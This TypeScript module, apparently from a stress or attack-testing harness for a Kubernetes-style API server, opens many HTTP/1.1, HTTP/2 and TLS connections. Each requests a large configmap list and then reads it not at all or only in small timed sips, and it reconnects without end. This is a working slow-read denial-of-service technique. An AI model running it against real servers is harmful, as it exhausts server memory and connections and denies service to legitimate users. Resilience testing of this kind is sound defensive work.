import { connect as tlsConnect } from 'node:tls';
import { http2, openConnection, openHttp2, type Victim } from '../attack/open-connections.ts';
import { frame, frameTypes, literals, requestFields } from '../raw-http2.ts';

/** A list of several megabytes. */
export const largeNamespace = 'load-large';
const path = `/api/v1/namespaces/${largeNamespace}/configmaps`;
const sipEveryMs = 200;
const sipBytes = 4_096;

/**
 * Requests a large list on this many connections, and reads nothing of it, or a little from time to time. Never ends.
 */
export function startSlowReaders(victim: Victim, token: string, count: number): void {
  const head = `GET ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\n\r\n`;
  const fields = literals(
    requestFields([
      [':path', path],
      ['authorization', `Bearer ${token}`],
    ]),
  );
  const asked = [http2.window(65_535), frame(frameTypes.headers, 5, 1, fields)];
  for (let at = 0; at < count; at++)
    if (at % 3 === 0) openConnection(victim, head);
    else if (at % 3 === 1) openHttp2(victim, asked);
    else sip(victim, head);
}

function sip(victim: Victim, head: string): void {
  const { host, port, ca } = victim;
  const socket = tlsConnect({ host, port, ca, servername: 'localhost' });
  socket.on('error', () => {});
  socket.once('secureConnect', () => socket.write(head));
  // The socket does not flow: a timer decides when to read.
  socket.on('readable', () => {});
  const timer = setInterval(() => socket.read(Math.min(sipBytes, socket.readableLength)), sipEveryMs);
  socket.once('close', () => {
    clearInterval(timer);
    setTimeout(() => sip(victim, head), 50);
  });
}
